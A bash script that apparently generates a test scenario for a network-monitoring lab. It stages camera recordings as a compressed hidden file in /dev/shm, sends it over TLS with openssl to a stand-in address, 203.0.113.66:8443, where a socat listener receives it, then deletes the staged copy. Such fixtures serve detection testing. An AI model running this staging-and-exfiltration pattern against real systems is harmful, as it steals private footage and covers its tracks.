#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=tar,xz,openssl far=out ready=out:8443 seconds=44 parts=dns,camera-gate,recorder-gate,nas,outside-web
# One session packs recordings into /dev/shm and ends; another one, a while later, sends what lies there outside by openssl, and removes it.
# shellcheck disable=SC2016 # other languages have variables of their own
if [ "$1" = out ]; then
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/b.key" -out "$LAB/b.pem" 2>/dev/null
	exec timeout 70 socat -u OPENSSL-LISTEN:8443,bind=203.0.113.66,reuseaddr,verify=0,cert="$LAB"/b.pem,key="$LAB"/b.key "CREATE:$LAB/got"
fi
sleep 14; LAB="$LAB" setsid -w sh -c 'cd "$LAB/recordings/gate" && tar cf - 00[0-4].mp4 | xz -0 >"/dev/shm/.nwlab-pulse"'
sleep 12; setsid -w sh -c 'openssl s_client -quiet -connect 203.0.113.66:8443 </dev/shm/.nwlab-pulse >/dev/null 2>&1 & sleep 5; kill $!'; rm -f /dev/shm/.nwlab-pulse
sleep 4; [ "$(stat -c %s "$LAB/got")" -gt 400000 ]
